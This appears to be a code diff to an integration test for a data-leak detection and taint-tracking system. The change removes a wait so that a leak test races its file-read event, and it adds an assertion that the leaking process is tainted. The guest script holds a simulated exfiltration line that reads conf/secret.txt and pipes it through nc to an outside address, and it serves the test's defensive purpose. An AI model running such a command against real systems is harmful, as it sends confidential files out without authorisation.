@@ -27,11 +27,14 @@
 //! 4. `cp vault/secret.txt out.txt` under a grant, then without one: `out.txt`
 //!    is refused exactly like the original.
 //!
-//! The guest waits for the test wherever the order of events from the two
-//! producers matters: fsd's file events and the hooks' events reach the
-//! engine on separate paths, so a process forked or sending within
-//! fsd's batching delay of its read could be applied first
-//! (docs/taint.md, "Limits"). Every wait is a poll with a generous bound.
+//! fsd's file events and the hooks' events reach the engine on separate
+//! paths, so a process's fork or send can be applied before the read that
+//! tainted it; the engine then applies them again when the read arrives
+//! (docs/taint.md, "Two producers, one order"). The leak case runs with no
+//! pause between the read and the send, and so exercises that; elsewhere
+//! the guest waits for the test after each read, so that the rest of the
+//! case is checked on the ordinary path. Every wait is a poll with a
+//! generous bound.
 //!
 //! Needs QEMU 10, the guest kernel and its vmlinux, busybox, Graphviz, the
 //! guest helpers, and `fsd` and `monitor` built (`cargo build -p fsd -p monitor`);
@@ -113,7 +116,6 @@ echo "LSERVER $!"
   read -r me rest </proc/self/stat
   read -r x <conf/secret.txt
   echo "LEAKER $me"
-  read -r go <&3
   { echo "$x"; exec sleep 3600; } | nc 192.0.2.99 7777 &
   echo "LEAKNC $!"
 )
@@ -673,9 +675,9 @@ fn leak(rig: &mut Rig) {
     // Leak: a tainted nc sends outside the host's VMs.
     for i in 0..2 {
         let name = rig.sides[i].name;
+        // No waiting here: the shell forks nc right after its read, so the
+        // hooks' fork and send may reach the engine before fsd's read.
         let leaker = rig.sides[i].pid("LEAKER");
-        rig.wait_process(name, leaker, "the leaker");
-        rig.sides[i].send("go");
         let nc = rig.sides[i].pid("LEAKNC");
         let uuid = rig.sides[i].uuid;
         let alert = until(&format!("{name}: leak alert on the watch stream"), || {
@@ -698,6 +700,15 @@ fn leak(rig: &mut Rig) {
             "the chain ends at the VM's confidential file: {alert}"
         );
         assert!(chain.len() >= 3, "nc <- leaker (fork) <- file: {alert}");
+        // Named by its pid alone when fsd's report came after its exit.
+        until(
+            &format!("{name}: the leaker (pid {leaker}) tainted"),
+            || {
+                rig.graph(name)
+                    .into_iter()
+                    .find(|e| e.entry.pid == Some(leaker))
+            },
+        );
         let frozen = until(&format!("{name}: freeze outcome"), || {
             rig.watch_lines()
                 .into_iter()
